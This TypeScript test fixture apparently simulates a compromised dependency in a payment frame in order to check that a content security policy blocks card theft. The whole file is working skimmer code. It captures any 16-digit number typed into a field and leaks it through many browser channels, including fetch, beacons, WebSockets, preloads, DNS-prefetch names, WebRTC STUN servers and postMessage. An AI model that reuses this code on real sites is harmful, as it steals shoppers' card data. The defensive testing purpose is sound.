/*
 * What malicious code in a frame would try, to carry a card out: every way a document has to make a
 * browser connect somewhere. Not a part of the product. The test copies this file into a copy of the
 * sources and imports it first, as a dependency that was taken over would stand there; it serves the
 * same file to a page without any policy, where each way must arrive.
 */

/** Where it carries to: an HTTP server, a port that only counts connections, and one for packets. */
export type Sink = { readonly http: string; readonly tcp: string; readonly stun: string };

/** Which document the code runs in; each has a port of its own to connect to. */
export type Place = 'field' | 'controller' | 'page';

type Way = (url: string, sink: Sink) => unknown;

function element(name: string, properties: Readonly<Record<string, string>>): HTMLElement {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(properties)) made.setAttribute(key, value);
  document.body.append(made);
  return made;
}

const link = (rel: string, more: Readonly<Record<string, string>> = {}): Way => {
  return (href) => document.head.append(element('link', { rel, href, ...more }));
};

const background: Way = (url) => {
  element('div', {}).style.setProperty('background-image', `url("${url}")`);
};

const sheet: Way = (url) => {
  element('style', {}).textContent = `@import url("${url}");`;
};

/** A frame of the same origin inherits the policy, but not what was taken out of the first realm. */
function freshRealm(): typeof globalThis {
  const { contentWindow } = element('iframe', { src: 'about:blank' }) as HTMLIFrameElement;
  return contentWindow as unknown as typeof globalThis;
}

function form(url: string, target: string): void {
  const made = element('form', { action: url.split('?')[0] ?? '', target }) as HTMLFormElement;
  const input = document.createElement('input');
  input.name = 'd';
  input.value = url.split('?')[1] ?? '';
  made.append(input);
  made.submit();
}

/** Ways that leave the document where it is, so that one visit can try them all. */
export const QUIET: Readonly<Record<string, Way>> = {
  fetch: (url) => fetch(url, { mode: 'no-cors' }),
  'fetch post': (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'x' }),
  'fetch keepalive': (url) => fetch(url, { mode: 'no-cors', keepalive: true }),
  xhr: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  websocket: (url) => new WebSocket(url.replace('http', 'ws')),
  eventsource: (url) => new EventSource(url),
  image: (url) => {
    new Image().src = url;
  },
  srcset: (url) => element('img', { srcset: `${url} 1x` }),
  video: (url) => element('video', { src: url, preload: 'auto' }),
  audio: (url) => element('audio', { src: url, preload: 'auto' }),
  object: (url) => element('object', { data: url }),
  embed: (url) => element('embed', { src: url }),
  iframe: (url) => element('iframe', { src: url }),
  'script element': (url) => element('script', { src: url }),
  'module script': (url) => element('script', { src: url, type: 'module' }),
  import: (url) => import(/* @vite-ignore */ url),
  worker: async (url) => {
    const code = `fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`;
    const source = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
    return new Worker(source);
  },
  'shared worker': (url) => {
    const code = `fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`;
    return new SharedWorker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  stylesheet: link('stylesheet'),
  preload: link('preload', { as: 'image' }),
  modulepreload: link('modulepreload'),
  prefetch: link('prefetch'),
  icon: link('icon'),
  manifest: link('manifest'),
  preconnect: (_, { tcp }) => link('preconnect')(tcp, { http: '', tcp, stun: '' }),
  'css url': background,
  'css import': sheet,
  'font face': (url) => new FontFace('leak', `url("${url}")`).load(),
  'svg image': (url) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    svg.append(image);
    document.body.append(svg);
  },
  'fresh realm': (url) => freshRealm().fetch(url, { mode: 'no-cors' }),
  popup: (url) => window.open(url),
  'popup by a link': (url) => element('a', { href: url, target: '_blank' }).click(),
  'popup by a form': (url) => form(url, '_blank'),
  ping: (url) => {
    const anchor = element('a', { href: '#here', ping: url });
    anchor.click();
  },
};

/** Ways that replace the document they start from, or the page around it. */
export const LOUD: Readonly<Record<string, Way>> = {
  form: (url) => form(url, '_self'),
  'form to the top': (url) => form(url, '_top'),
  'top navigation': (url) => {
    if (top) top.location.href = url;
  },
};

/** What no header closes. */
export const OPEN: Readonly<Record<string, Way>> = {
  'self navigation': (url) => {
    location.href = url;
  },
  'message to the parent': (url) => parent.postMessage({ leak: url }, '*'),
  'webrtc of a fresh realm': (_, { stun }) => gather(freshRealm().RTCPeerConnection, stun),
  'name of a link': (url, sink) => link('dns-prefetch')(`//${nameOf(url)}`, sink),
  'name of a stun server': (url) => gather(freshRealm().RTCPeerConnection, `${nameOf(url)}:3478`),
};

/** A name that no server has: asking for it is enough, since the question carries the digits. */
function nameOf(url: string): string {
  return `d${url.split('?')[1]}.leak.invalid`;
}

/** Gathering candidates asks the server named here; a user name would carry sixteen digits. */
async function gather(Connection: typeof RTCPeerConnection, stun: string): Promise<void> {
  const iceServers = [
    { urls: `stun:${stun}` },
    { urls: `turn:${stun}`, username: 'd', credential: 'd' },
  ];
  const connection = new Connection({ iceServers });
  connection.createDataChannel('d');
  await connection.setLocalDescription(await connection.createOffer());
}

const EVERY = { ...QUIET, ...LOUD, ...OPEN };

/** Tries the named ways, and writes down how each began: `tried`, or what was thrown. */
function leave(plan: readonly string[], sink: Sink, place: Place, value: string): void {
  const began: Record<string, string> = {};
  Reflect.set(globalThis, 'began', began);
  for (const name of plan) {
    const url = `${sink.http}/${place}/${encodeURIComponent(name)}?${value}`;
    const failed = (reason: unknown) => {
      began[name] = reason instanceof Error ? reason.name : 'failed';
    };
    began[name] = 'tried';
    try {
      Promise.resolve(EVERY[name]?.(url, sink)).catch(failed);
    } catch (reason) {
      failed(reason);
    }
  }
}

/** Waits for a whole number to be typed; a controller has no input, so there it starts at once. */
export function lieInWait(sinks: Readonly<Record<Place, Sink>>): void {
  const last = location.pathname.split('/').at(-1);
  const place = last === 'field' || last === 'controller' ? last : 'page';
  const closed = Object.keys({ ...QUIET, ...LOUD });
  if (place === 'controller') leave(closed, sinks[place], place, 'loaded');
  addEventListener('input', ({ target }) => {
    const typed = (target as HTMLInputElement).value.replace(/\D/g, '');
    const plan: readonly string[] = Reflect.get(globalThis, 'plan') ?? closed;
    if (typed.length === 16) leave(plan, sinks[place], place, typed);
  });
}
